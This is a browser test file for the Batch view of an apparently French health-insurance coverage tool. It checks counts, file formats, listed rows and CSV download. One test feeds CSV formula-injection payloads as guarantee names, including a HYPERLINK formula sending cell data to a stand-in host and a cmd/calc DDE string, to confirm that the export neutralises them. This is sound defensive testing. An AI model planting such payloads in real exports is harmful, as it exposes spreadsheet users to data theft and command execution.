// The Batch view: a file of acts becomes the numbers that the package gives, and the rows to look at.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import {
  actsFile, choose, counts, coverage, exampleFile, openBatch, OUTCOME_CODES, plain, repeated, result, rowsToLookAt, table, WORDS,
} from "./batch-panel.mjs";
import { chooseFiles, dropFiles, file, openPage, outcomeOf, rule, startBrowser, writeText } from "./browser.mjs";

let browser;
before(async () => (browser = await startBrowser()));
after(() => browser.stop());

async function openExampleFile(options = {}) {
  const page = await openPage(browser, { fragment: "#batch", ...options });
  await page.getByRole("button", { name: "Try an example file" }).click();
  await result(page, "example-acts.csv").waitFor();
  return page;
}

/** The numbers of the page are those of the package for the same text. */
async function assertCounts(page, text, format) {
  const { summary } = coverage.evaluateText(text, format);
  const byOutcome = Object.fromEntries(OUTCOME_CODES.map((code) => [WORDS[code], summary.by_outcome[code]]));
  assert.deepEqual(sorted(await counts(page, "By outcome")), sorted(byOutcome));
  const more = page.getByRole("region", { name: "By guarantee" }).getByRole("button", { name: /^Show/ });
  if (await more.isVisible()) await more.click();
  assert.deepEqual(sorted(await counts(page, "By guarantee")), sorted(summary.by_guarantee));
}

const sorted = (object) => Object.entries(object).sort();
/** What the button gives: the name of the file, and its text. */
async function downloadedFrom(page) {
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download the result (CSV)" }).click()]);
  const chunks = [];
  for await (const chunk of await download.createReadStream()) chunks.push(chunk);
  return { name: download.suggestedFilename(), text: Buffer.concat(chunks).toString() };
}

const lookAt = (page, words) => page.getByRole("group", { name: "Which rows are listed" }).getByRole("button", { name: words }).click();

test("the example file: from nothing to numbers, bars and rows", async () => {
  const page = await openExampleFile();
  assert.match(page.url(), /#batch$/);
  await page.getByText("240 acts: 142 covered (59.2%), 49 to look at. By CONFORT, version 3").waitFor();
  await assertCounts(page, exampleFile, "csv");
  const rows = await table(page, "By outcome").locator("tbody tr").allInnerTexts();
  assert.deepEqual(plain(rows[0]), "Covered 142 59.2%");
  // The bars have the lengths of the numbers.
  const lengths = await table(page, "By outcome").locator("path[class^=bar-]").evaluateAll((bars) => bars.map((bar) => bar.getBBox().width));
  const numbers = Object.values(await counts(page, "By outcome"));
  lengths.forEach((length, index) => assert.ok(Math.abs(length - Math.max(0.5, (numbers[index] / 142) * 100)) < 0.1, `${length} for ${numbers[index]}`));
  assert.deepEqual(page.errors, []);
});

test("the same acts as NDJSON, with semicolons, or under a name that says nothing, give the same numbers", async () => {
  const page = await openBatch(browser);
  const [header, ...lines] = exampleFile.trimEnd().split("\n");
  const semicolons = [header, ...lines].map((line) => line.replaceAll(",", ";")).join("\r\n");
  await choose(page, actsFile("semicolons.csv", semicolons));
  await result(page, "semicolons.csv").waitFor();
  await assertCounts(page, semicolons, "csv");
  const ndjson = '{"care_type":"GP_VISIT","member_age":44,"is_optam_or_secteur_1":true,"reimbursed_by_secu":true}\n\n{"care_type":"GP_VISIT"}\n{]\n{"care_type":"NOPE"}';
  for (const name of ["acts.ndjson", "acts.JSONL", "acts.txt"]) {
    await choose(page, actsFile(name, ndjson));
    await result(page, name).waitFor();
    assert.equal(await page.getByRole("combobox", { name: "Format" }).inputValue(), "ndjson");
    await assertCounts(page, ndjson, "ndjson");
  }
  await choose(page, actsFile("noname", exampleFile));
  await result(page, "noname").waitFor();
  assert.equal(await page.getByRole("combobox", { name: "Format" }).inputValue(), "csv");
});

test("a format that was guessed wrong is corrected", async () => {
  const page = await openBatch(browser);
  await choose(page, actsFile("acts.csv", '{"care_type":"GP_VISIT"}\n{"care_type":"NOPE"}'));
  await page.getByRole("region", { name: "The first line of acts.csv cannot be used." }).waitFor();
  await page.getByRole("combobox", { name: "Format" }).selectOption("ndjson");
  await page.getByText("2 acts: 0 covered (0.0%), 2 to look at.").waitFor();
});

test("rows to look at: each with its place, what it says and why, and the way into the Act view", async () => {
  const page = await openExampleFile();
  // What cannot be read comes first.
  assert.equal(await rowsToLookAt(page).count(), 4);
  assert.equal(plain(await rowsToLookAt(page).nth(1).innerText()), "105 line 106 CARDIOLOGIST_VISIT,,,forty,CARDIOLOGIST,,true,,,,,,, Error Expected a number, got a string. /member_age");
  assert.match(plain(await rowsToLookAt(page).nth(2).innerText()), /^167 line 168 .* Expected 14 cells, as many as the header has, got 13\.$/);

  await lookAt(page, /Unknown care type/);
  assert.match(plain(await rowsToLookAt(page).filter({ hasText: "CROWM" }).innerText()), /CROWM .* CROWM is not in the catalogue\. Open$/);
  await lookAt(page, /Ambiguous/);
  assert.match(plain(await rowsToLookAt(page).first().innerText()), /2 guarantees cover this act at once: ORTHODONTICS_YOUNG and ORTHODONTICS_ADULT\./);

  await lookAt(page, /Not decided yet/);
  assert.equal(await rowsToLookAt(page).count(), 10);
  await page.getByRole("button", { name: "Show 29 more" }).click();
  assert.equal(await rowsToLookAt(page).count(), 39);
  assert.equal(
    plain(await rowsToLookAt(page).first().innerText()),
    "3 line 4 Consultation chez le cardiologue CARDIOLOGIST_VISIT age: 58, practitioner: Cardiologist, reimbursed by the Sécu: yes DOCTORS_OPTAM or DOCTORS_NON_OPTAM may cover this act. Not known: OPTAM or secteur 1. Open",
  );
  await page.getByRole("button", { name: "Open row 3 in the Act view" }).click();
  await outcomeOf(page).getByText("DOCTORS_OPTAM or DOCTORS_NON_OPTAM may cover this act.").waitFor();
  await page.getByText("Row 3 of example-acts.csv is in the form.").waitFor();
  assert.match(page.url(), /#act$/);
  assert.ok(await outcomeOf(page).evaluate((area) => area.contains(document.activeElement)));
  await page.getByRole("link", { name: "Batch" }).click();
  await result(page, "example-acts.csv").waitFor();
  assert.equal(await rowsToLookAt(page).count(), 39);
  assert.deepEqual(page.errors, []);
});

test("of many rows the first 100 are listed", async () => {
  const page = await openBatch(browser);
  await choose(page, actsFile("many.csv", `care_type\n${"NOPE\n".repeat(250)}`));
  await result(page, "many.csv").waitFor();
  await page.getByText("The first 100 of 250. The downloaded result has the others.").waitFor();
  for (const more of ["Show 50 more", "Show 40 more"]) await page.getByRole("button", { name: more }).click();
  assert.equal(await rowsToLookAt(page).count(), 100);
});

test("where every row is decided, there is nothing to look at", async () => {
  const page = await openBatch(browser);
  await choose(page, actsFile("good.csv", "care_type,member_age,is_optam_or_secteur_1,reimbursed_by_secu\nGP_VISIT,44,true,true\n"));
  await page.getByText("1 act: 1 covered (100.0%), none to look at.").waitFor();
  await page.getByText("Every row was decided: nothing to look at.").waitFor();
});

test("the result is downloaded: number, outcome and guarantee of every row", async () => {
  const page = await openBatch(browser);
  const text = repeated(45_000);
  await choose(page, actsFile("many.acts.csv", text));
  await result(page, "many.acts.csv").waitFor();
  const downloaded = await downloadedFrom(page);
  assert.equal(downloaded.name, "many.acts-result.csv");
  const { outcomes, guarantees, length } = coverage.evaluateText(text, "csv");
  const names = coverage.guaranteeNames;
  const expected = Array.from({ length }, (_, row) => `${row + 1},${OUTCOME_CODES[outcomes[row]]},${names[guarantees[row]] ?? ""}`);
  assert.equal(downloaded.text, ["row,outcome,guarantee", ...expected, ""].join("\r\n"));
});

test("names of guarantees that a spreadsheet would take for formulas are only texts in the downloaded result", async () => {
  const cells = {
    '=HYPERLINK("http://x"&A1,"x")': `"'=HYPERLINK(""http://x""&A1,""x"")"`,
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+1": "'+1",
    "-1": "'-1",
    "\tTAB": `"'\tTAB"`,
    "\rCR": `"'\rCR"`,
    "＝1": "'＝1",
    "a;=1": `"a;'=1"`,
    "DENTAL, care": '"DENTAL, care"',
  };
  const names = Object.keys(cells);
  const catalog = {
    care_type_groups: [{ id: 1, short_code: "ALL" }],
    internal_care_types: names.map((_, index) => ({ id: index + 1, short_code: `TYPE_${index}`, care_type_group_ids: [1] })),
  };
  const guarantees = names.map((name, index) => ({ name, care_type_mappings: [{ selector: { include_care_types: [`TYPE_${index}`] }, filter: {} }], coverage_rule: rule }));
  const page = await openPage(browser, { fragment: "#batch" });
  await chooseFiles(page, file("types.json", catalog), file("coverage.json", { name: "ODD", version: 1, guarantees }));
  await page.getByText("The coverage is loaded: coverage.json.").waitFor();
  await choose(page, actsFile("acts.csv", `care_type\n${names.map((_, index) => `TYPE_${index}\n`).join("")}`));
  await result(page, "acts.csv").waitFor();
  const rows = Object.values(cells).map((cell, index) => `${index + 1},covered,${cell}`);
  assert.equal((await downloadedFrom(page)).text, ["row,outcome,guarantee", ...rows, ""].join("\r\n"));
  assert.deepEqual(page.errors, []);
});

test("a file that is dropped in any view is evaluated, one at a time; documents are loaded as everywhere", async () => {
  const page = await openBatch(browser, { fragment: "#coverage" });
  await dropFiles(page, actsFile("dropped.csv", exampleFile), actsFile("second.ndjson", "{}"));
  await result(page, "dropped.csv").waitFor();
  assert.match(page.url(), /#batch$/);
  await page.getByText("One file is evaluated at a time. Left out: second.ndjson.").waitFor();
  // In this view, what is not named as JSON is a file of acts.
  await dropFiles(page, actsFile("acts.txt", exampleFile));
  await result(page, "acts.txt").waitFor();
  await dropFiles(page, actsFile("small.json", '{ "name": "SMALL", "version": 1, "guarantees": [] }'));
  await page.getByText("The coverage is loaded: small.json.").waitFor();
  assert.deepEqual(page.errors, []);
});

test("a file that is dropped before there is a coverage waits for it", async () => {
  const page = await openPage(browser);
  await dropFiles(page, actsFile("early.csv", exampleFile));
  await page.getByRole("main").getByText("early.csv waits for a coverage that can be read. A file of acts is evaluated by a coverage.").waitFor();
  await page.getByRole("button", { name: "Load the example" }).click();
  await page.getByRole("button", { name: "Evaluate it" }).click();
  await result(page, "early.csv").waitFor();
  await assertCounts(page, exampleFile, "csv");
});

test("an edited coverage marks the result as of before, and evaluates again when asked", async () => {
  const page = await openExampleFile();
  await page.getByRole("link", { name: "Coverage" }).click();
  const empty = JSON.stringify({ name: "EMPTY", version: 9, guarantees: [] });
  await writeText(page, empty);
  await page.getByRole("link", { name: "Batch" }).click();
  await page.getByText("The catalogue or the coverage has changed since example-acts.csv was evaluated.").waitFor();
  await page.getByText("142 covered (59.2%), 49 to look at. By CONFORT, version 3").waitFor();
  await page.getByRole("button", { name: "Evaluate again" }).click();
  await page.getByText("0 covered (0.0%), 8 to look at. By EMPTY, version 9").waitFor();
  await page.getByText("This coverage has no guarantees.").waitFor();
  assert.equal(await page.getByText("has changed since").count(), 0);
  await page.getByRole("link", { name: "Coverage" }).click();
  await writeText(page, "{");
  await page.getByRole("link", { name: "Batch" }).click();
  await page.getByText("The coverage cannot be read at the moment, so no file can be evaluated by it.").waitFor();
  assert.ok(await page.getByRole("button", { name: "Evaluate again" }).isDisabled());
  await choose(page, actsFile("more.csv", exampleFile));
  await page.getByRole("region", { name: "more.csv waits for a coverage that can be read." }).waitFor();
  await page.getByRole("link", { name: "See what is wrong in the Coverage view" }).click();
  await page.getByText("This is not valid JSON yet").waitFor();
  assert.deepEqual(page.errors, []);
});

test("establishments without a contract count, as in the Act view", async () => {
  const page = await openBatch(browser);
  const text = "care_type,member_age,establishment,reimbursed_by_secu\nSTAY_SURGICAL,40,990000027,true\n";
  await choose(page, actsFile("stays.csv", text));
  await result(page, "stays.csv").waitFor();
  await rowsToLookAt(page).filter({ hasText: "établissement conventionné" }).first().waitFor();
  await page.getByRole("button", { name: "Open row 1 in the Act view" }).click();
  await page.getByText("Establishments without a contract").click();
  await page.getByRole("textbox", { name: "Establishments without a contract" }).fill("990000027");
  await page.getByRole("link", { name: "Batch" }).click();
  await page.getByRole("button", { name: "Evaluate again" }).click();
  await page.waitForFunction(() => !document.body.textContent.includes("has changed since"));
  assert.equal(await page.getByText(/Not known: .*établissement conventionné/).count(), 0);
});

test("guarantees are found by name", async () => {
  const page = await openExampleFile();
  await page.getByRole("searchbox", { name: "Find a guarantee" }).fill("ortho");
  assert.deepEqual(Object.keys(await counts(page, "By guarantee")), ["ORTHODONTICS_ADULT", "ORTHODONTICS_YOUNG"]);
  await page.getByRole("searchbox", { name: "Find a guarantee" }).fill("nothing like it");
  await page.getByText("No guarantee has “nothing like it” in its name.").waitFor();
});

test("the fields that the view names are those that the engine reads", async () => {
  const page = await openBatch(browser);
  await page.getByText("What such a file looks like").click();
  const fields = await page.locator(".batch-help .chips code").allInnerTexts();
  assert.equal(coverage.evaluateText(`${fields.join(",")}\n`, "csv").length, 0);
  assert.ok(["care_type", "care_date", "teeth", "establishment", "reimbursed_by_secu"].every((field) => fields.includes(field)));
  const [csv, ndjson] = await page.locator(".batch-help pre").allInnerTexts();
  for (const [text, format] of [[csv, "csv"], [ndjson, "ndjson"]]) {
    const { length, summary } = coverage.evaluateText(text, format);
    assert.deepEqual([length, summary.by_outcome.invalid_act, summary.by_outcome.unknown_care_type], [2, 0, 0]);
  }
});
